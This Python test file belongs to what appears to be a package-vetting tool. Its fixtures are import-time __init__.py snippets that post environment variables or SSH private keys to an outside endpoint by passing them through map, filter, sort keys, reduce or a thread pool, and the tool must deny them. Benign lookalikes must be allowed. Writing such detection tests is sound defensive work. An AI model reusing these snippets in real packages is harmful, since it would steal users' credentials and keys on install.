"""Secrets handed one by one to a function that sends them (issue 16; ADR 0193).

``map(f, xs)``, ``filter``, ``functools.reduce``, a key function (``sorted(xs, key=f)``,
``max``) and a pool's ``map`` call ``f`` on each item. When the items were a call's value
(``os.environ.values()``, ``glob.glob(...)``) and not a name or a written-out list, the one
unknown item ``f`` was handed carried nothing: the environment sent from ``f`` on import was
a plain network call (allowed). A lambda reading the secret itself was denied already.
Every sample is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"


def handed(call: str, returns: str = "0", params: str = "v") -> dict[str, str]:
    """``__init__.py`` defining ``send`` (it posts its last parameter) and running ``call``
    on import."""
    return init(
        "import functools, os, requests\nfrom concurrent.futures import ThreadPoolExecutor\n\n\n"
        f"def send({params}):\n    requests.post({URL!r}, data=v)\n    return {returns}\n\n\n"
        f"{call}\n"
    )


DENIED: dict[str, Mapping[str, str]] = {
    "environment-values-through-a-sort-key": handed("sorted(os.environ.values(), key=send)"),
    "environment-items-through-max-key": handed("max(os.environ.items(), key=send)"),
    "environment-values-through-filter": handed("list(filter(send, os.environ.values()))", "True"),
    "environment-values-through-map-of-a-named-function": handed(
        "list(map(send, os.environ.values()))"
    ),
    "environment-values-through-reduce": handed(
        "functools.reduce(send, os.environ.values(), 0)", "a", "a, v"
    ),
    "environment-values-through-a-pool-map": handed(
        "with ThreadPoolExecutor(4) as ex:\n    list(ex.map(send, os.environ.values()))"
    ),
    "ssh-keys-through-map": init(
        "import glob, os, requests\n\n\ndef send(p):\n"
        f"    requests.post({URL!r}, data=open(p, 'rb').read())\n\n\n"
        "list(map(send, glob.glob(os.path.expanduser('~/.ssh/id_*'))))\n"
    ),
}

ALLOWED: dict[str, Mapping[str, str]] = {
    # Sorting and checking the environment's names sends nothing.
    "environment-sorted-by-a-local-key": init(
        "import os\n\n\ndef by_name(kv):\n    return kv[0].lower()\n\n\n"
        "SETTINGS = sorted(os.environ.items(), key=by_name)\n"
    ),
    "environment-names-checked-by-filter": init(
        "import os, warnings\n\n\ndef stale(name):\n    if name.startswith('OLDPKG_'):\n"
        "        warnings.warn(name + ' is no longer read')\n    return False\n\n\n"
        "list(filter(stale, os.environ))\n"
    ),
    # A client that sends what it is asked to, to the host it was given, when called.
    "uploader-mapping-files-when-called": init(
        "import requests\n\n\ndef _put(url, path):\n    with open(path, 'rb') as f:\n"
        "        return requests.put(url, data=f)\n\n\n"
        "def upload(url, paths):\n    return list(map(lambda p: _put(url, p), paths))\n"
    ),
    # Version strings of installed packages, reported to nobody.
    "plugins-loaded-over-entry-points": init(
        "from importlib.metadata import entry_points\n\n\ndef load(ep):\n"
        "    return ep.load()\n\n\nPLUGINS = list(map(load, entry_points(group='evpkg')))\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_handed_over_items_to_a_sender(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
